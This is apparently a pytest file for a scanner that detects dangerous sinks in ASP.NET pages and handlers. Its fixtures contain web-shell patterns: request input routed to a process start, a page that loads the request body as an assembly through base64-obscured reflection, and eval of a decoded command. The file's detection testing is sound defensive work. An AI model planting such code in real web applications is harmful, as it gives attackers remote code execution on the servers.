def test_two_hops_through_another_app_code_class(tmp_path: Path) -> None:
    # the page calls a wrapper class; the wrapper calls the class holding the process start
    wrapper = (
        "namespace Example.Site {\n  public static class Facade {\n"
        "    public static void Go(string what) { new Tools().Run(what); }\n  }\n}\n"
    )
    page = (
        '<%@ Page Language="C#" %>\n<html><body><form runat="server"><asp:Label id="L" runat="server"/></form>\n'
        '<% L.Text = "ok"; Example.Site.Facade.Go(Request.Form["w"]); %>\n</body></html>\n'
    )
    files = [("app/go.aspx", page), ("app/App_Code/Facade.cs", wrapper), ("app/App_Code/Tools.cs", TOOLS_CS)]
    data = scan_tree(tmp_path, ROOT, files)
    found = [f for f in findings_for(data, "app/go.aspx") if f["rule_id"] == "WF-BEHAV-PROCESS"]
    assert found
    assert any(
        str(e["source"]).replace("\\", "/").endswith("App_Code/Tools.cs") for e in found[0]["evidence"]
    )
    # the same wrapper given a constant: silent
    quiet = page.replace('Request.Form["w"]', '"ver"')
    data = scan_tree(tmp_path / "q", ROOT, [("app/go.aspx", quiet), *files[1:]])
    assert findings_for(data, "app/go.aspx") == []


def test_a_value_checked_by_a_digits_validator_method() -> None:
    # b1_to_a2.md 5, the real shape: a same-file validator returning an anchored digits match, used as the
    # positive condition around the call
    handler = (
        '<%@ WebHandler Language="C#" Class="Sync" %>\nusing System.Diagnostics; using System.Text.RegularExpressions;\n'
        "public class Sync : System.Web.IHttpHandler {\n"
        "  public void ProcessRequest(System.Web.HttpContext c) {\n"
        '    string pr = c.Request.QueryString["pr"];\n'
        "    if (!string.IsNullOrEmpty(pr) && VerifyPrId(pr)) { Run(pr); }\n  }\n"
        '  bool VerifyPrId(string pr) { if (pr != null) { return Regex.IsMatch(pr, "^[0-9]{1,}$"); } return false; }\n'
        '  void Run(string pr) { Process.Start(@"C:\\Tools\\git.exe", string.Format("checkout pr/{0}", pr)).WaitForExit(); }\n'
        "  public bool IsReusable { get { return false; } }\n}\n"
    )
    assert _sinks(handler, ".ashx") == set()
    negated = handler.replace("&& VerifyPrId(pr))", "&& !VerifyPrId(pr))")
    assert "process" in _sinks(negated, ".ashx")
    wide = handler.replace('"^[0-9]{1,}$"', '"^[0-9a-z ./-]+$"')
    assert "process" in _sinks(wide, ".ashx")


@pytest.mark.parametrize(
    "decoder",
    [
        "string d(string s) { return System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(s)); }",
        "string d(string s) => Encoding.Default.GetString(Convert.FromBase64String(s));",
    ],
)
def test_names_hidden_behind_a_decoding_helper(decoder: str) -> None:
    # the shape of a corpus loader: every name passed through the page's own base64 helper
    page = (
        '<%@ Page Language="C#" %>\n<script runat="server">\n' + decoder + "\n"
        "void Page_Load(object s, EventArgs e) {\n  byte[] b = Request.BinaryRead(Request.TotalBytes);\n"
        '  var t = System.Type.GetType(d("U3lzdGVtLlJlZmxlY3Rpb24uQXNzZW1ibHk="));\n'
        '  var m = t.GetMethod(d("TG9hZA=="), new System.Type[] { typeof(byte[]) });\n'
        "  m.Invoke(null, new object[] { b });\n}\n</script>\n"
    )
    assert "reflection-load" in _sinks(page, ".aspx")
    # the same helper decoding a text shown to the visitor: nothing
    shown = (
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        + decoder
        + '\nvoid Page_Load(object s, EventArgs e) { Label1.Text = d("SGVsbG8gd29ybGQ="); }\n</script>\n'
    )
    assert _sinks(shown, ".aspx") == set()


def test_eval_of_a_variable_given_decoded_code() -> None:
    page = (
        '<%@ Page Language="JScript" %>\n<% var k = System.Text.Encoding.UTF8.GetString('
        f'System.Convert.FromBase64String("{_B64_CMD}"));\n   eval(k); %>\n'
    )
    assert {"eval", "eval-decoded"} <= _sinks(page, ".aspx")
    plain = (
        '<%@ Page Language="JScript" %>\n<% var img = System.Convert.FromBase64String("R0lGODlhAQABAAAAACw=");\n'
        '   var k = "2+3"; var n = eval(k); Response.BinaryWrite(img); %>\n'
    )
    assert _sinks(plain, ".aspx") == set()
